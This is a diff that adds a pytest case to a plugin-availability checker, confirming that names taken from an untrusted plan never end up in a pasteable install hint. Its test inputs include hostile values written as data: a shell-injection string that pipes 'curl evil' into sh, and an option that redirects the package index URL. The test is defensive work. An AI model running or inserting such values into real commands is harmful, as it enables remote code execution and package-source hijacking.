@@ -56,6 +56,16 @@ def test_another_version_is_refused_by_name(wanted: dict[str, Any], words: str, 
     assert fix in str(fault.hint)
 
 
+@pytest.mark.parametrize(
+    "name", ["x; curl evil | sh", "--index-url=http://x y", "acme", "a==1\n b", "a==1 b", 7, ["a==1"]]
+)
+def test_what_a_plan_says_is_no_command_to_paste(name: Any) -> None:
+    """A pack may come from anybody."""
+    (fault,) = unavailable(plan({"acme.height": 1}, {"acme.height": name}), registry(offer()).specs)
+    assert fault.code == "P602"
+    assert fault.hint == "Install that very version, from a source that you trust."
+
+
 def test_a_plugin_that_cannot_be_used_here_is_refused_with_its_reason() -> None:
     (fault,) = unavailable(SOUND, registry(offer(spoiled(summary=""))).specs)
     assert fault.code == "P602"
